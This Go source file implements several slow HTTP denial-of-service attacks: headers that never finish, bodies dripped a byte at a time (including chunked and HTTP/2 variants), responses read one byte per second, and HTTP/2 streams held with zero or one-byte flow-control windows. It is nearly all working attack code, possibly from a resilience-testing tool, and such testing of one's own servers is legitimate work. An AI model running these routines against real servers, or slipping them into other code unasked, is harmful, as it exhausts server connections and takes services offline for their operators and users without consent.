package main

import (
	"fmt"
	"io"
	"strings"
	"time"

	"golang.org/x/net/http2"
)

func (a *attack) interval() time.Duration { return time.Duration(a.gap * float64(time.Second)) }

// slowHeaders never finishes the headers of a request.
func slowHeaders(a *attack) any {
	return a.onEachConnection(func(int) error {
		if a.http2 {
			return a.slowContinuation()
		}
		conn, err := a.tls(0, "http/1.1")
		if err != nil {
			return err
		}
		defer conn.Close()
		if _, err := io.WriteString(conn, strings.TrimSuffix(a.head("POST", "content-length: 2"), "\r\n")); err != nil {
			return err
		}
		count := 0
		return a.drip(conn, a.interval(), func() []byte {
			count++
			return fmt.Appendf(nil, "x-%d: 1\r\n", count)
		})
	})
}

func (a *attack) slowContinuation() error {
	s, err := a.session(0)
	if err != nil {
		return err
	}
	defer s.conn.Close()
	block := s.request(2)
	if err := s.do(func() error {
		return s.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block})
	}); err != nil {
		return err
	}
	for count := 0; a.pause(a.interval()) && !s.hasEnded(); count++ {
		part := s.encode(field{Name: fmt.Sprintf("x-%d", count), Value: "1"})
		if s.do(func() error { return s.WriteContinuation(1, false, part) }) != nil {
			break
		}
	}
	return s.wait()
}

// slowBody sends the start of a body, and the rest a byte at a time. The variant `chunked` does not declare its length.
func slowBody(a *attack) any {
	return a.onEachConnection(func(int) error {
		if a.http2 {
			return a.slowBody2()
		}
		conn, err := a.tls(0, "http/1.1")
		if err != nil {
			return err
		}
		defer conn.Close()
		length, chunk := fmt.Sprintf("content-length: %d", a.size), func(part string) string { return part }
		if a.variant == "chunked" {
			length = "transfer-encoding: chunked"
			chunk = func(part string) string { return fmt.Sprintf("%x\r\n%s\r\n", len(part), part) }
		}
		start := a.head("POST", length)
		if a.first > 0 {
			start += chunk(strings.Repeat("x", a.first))
		}
		// Not waited for: a front that refuses does not read the rest.
		go func() { _, _ = io.WriteString(conn, start) }()
		return a.drip(conn, a.interval(), func() []byte { return []byte(chunk("y")) })
	})
}

func (a *attack) slowBody2() error {
	s, err := a.session(0)
	if err != nil {
		return err
	}
	defer s.conn.Close()
	length := a.size
	if a.variant == "chunked" {
		length = -1
	}
	answered := make(chan struct{}, 10)
	s.onStatus = func(uint32, string) { answered <- struct{}{} }
	if err := s.open(1, s.request(length), false); err != nil {
		return err
	}
	_ = s.send(1, []byte(strings.Repeat("x", a.first)), false)
	for {
		select {
		case <-answered:
			return nil
		case <-s.ended:
			return s.err
		case <-a.ctx.Done():
			return nil
		case <-time.After(a.interval()):
			_ = s.send(1, []byte("y"), false)
		}
	}
}

// slowRead sends whole requests and hardly reads the answers.
func slowRead(a *attack) any {
	path := fmt.Sprintf("%s?answer=%d", a.path, a.size)
	a.path = path
	return a.onEachConnection(func(int) error {
		if a.http2 {
			return a.closedWindow()
		}
		conn, err := a.tls(1_024, "http/1.1")
		if err != nil {
			return err
		}
		defer conn.Close()
		if _, err := io.WriteString(conn, a.head("POST", "content-length: 2")+"{}"); err != nil {
			return err
		}
		one := make([]byte, 1)
		for a.pause(time.Second) {
			if _, err := conn.Read(one); err != nil {
				return err
			}
			a.add("byte")
		}
		return nil
	})
}

// closedWindow keeps the windows of -streams requests at zero, or with the variant `drip` opens them by one byte per second.
func (a *attack) closedWindow() error {
	s, err := a.session(0, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
	if err != nil {
		return err
	}
	defer s.conn.Close()
	for n := range a.streams {
		stream := uint32(1 + 2*n)
		if err := s.open(stream, s.request(2), false); err != nil {
			return err
		}
		if err := s.send(stream, []byte("{}"), true); err != nil {
			return err
		}
	}
	for a.pause(time.Second) && !s.hasEnded() {
		if a.variant != "drip" {
			continue
		}
		err := s.do(func() error {
			for n := range a.streams {
				if err := s.WriteWindowUpdate(uint32(1+2*n), 1); err != nil {
					return err
				}
			}
			return nil
		})
		if err != nil {
			break
		}
	}
	return s.wait()
}
